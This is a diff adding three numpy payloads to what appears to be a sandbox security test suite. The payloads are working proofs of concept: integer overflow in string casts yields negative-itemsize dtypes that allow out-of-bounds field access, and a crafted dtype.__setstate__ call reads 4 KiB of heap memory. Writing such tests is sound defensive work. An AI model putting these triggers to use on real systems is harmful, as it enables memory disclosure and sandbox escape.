@@ -5277,6 +5277,47 @@ PAYLOADS = [
                 raise RuntimeError("pandas' codes changed after the check")
             return [list(x[:3]) for x in mi.codes]
         """, on={OK}, off={OK, CRASH, EXCEPTION}),
+    # rev28: sizes numpy computes itself (subarray products, ('S', dtype),
+    # its casts to str at 4 * size) and dtype.__setstate__
+    Payload("numpy-dtype-string-cast-of-large-record-negative-itemsize", """
+        import numpy as np
+        def main():
+            # a record of 2**29 bytes (fields now end before 2**29); numpy's
+            # structured -> string cast sizes
+            # the result 4 * itemsize in a C int (convert_datatype.c:3340)
+            rec = np.dtype([("a", (("u1", (2**27,)), (4,)))])
+            out = np.concatenate([np.empty((0, 1), rec)], axis=None, dtype="U",
+                                 casting="unsafe")
+            return [rec.itemsize, out.dtype.itemsize]      # 536870912, -2147483648
+        """, on={GUARD}, off={GUARD}),
+    Payload("numpy-dtype-inherit-string-cast-negative-itemsize", """
+        import numpy as np
+        def main():
+            # ('S', dtype) takes the second dtype's size: an S type of 2**30 - 16
+            # bytes, past the worker's type-string limit (536870911) with no
+            # integer over it; S -> U sizes 4 * 2**30 - 64 in a C int (-64)
+            s = np.dtype(("S", (("u1", (67108863,)), (16,))))
+            out = np.concatenate([np.empty((0, 1), s)], axis=None, dtype="U",
+                                 casting="unsafe")
+            neg = out.dtype
+            a = np.zeros(1, "u8")
+            g = a.getfield(neg, 72)            # numpy's check: offset <= 8 - (-64)
+            return [s.itemsize, neg.itemsize, np.dtype(("V", neg)).itemsize, repr(g.dtype)]
+        """, on={GUARD}, off={OK, GUARD, EXCEPTION}),   # off: the negative size is made
+                                                        # (doc/security-model.md, Limitations)
+    Payload("numpy-dtype-setstate-field-past-record", """
+        import numpy as np
+        def main():
+            dt = np.dtype([("x", "u8"), ("pad", "u8")])      # a 16-byte record
+            # numpy's unpickling hook keeps the fields dict it is given (no
+            # PyDict_SetItem runs when the names are str): field x is 4 KiB of
+            # the heap 64 bytes into a 16-byte record
+            dt.__setstate__((3, "|", None, ("x", "pad"),
+                             {"x": (np.dtype(("u8", (512,))), 64), "pad": (np.dtype("u8"), 0)},
+                             16, 1, 0))
+            x = np.zeros(1, dtype=dt)["x"][0]
+            return [dt.itemsize, x.size] + [hex(int(v)) for v in x[:12]]
+        """, on={VALIDATOR}, off={GUARD, EXCEPTION}),
     Payload("numpy-random-generator-freed-bit-generator-capsule-pyrun", """
         import numpy as np
 
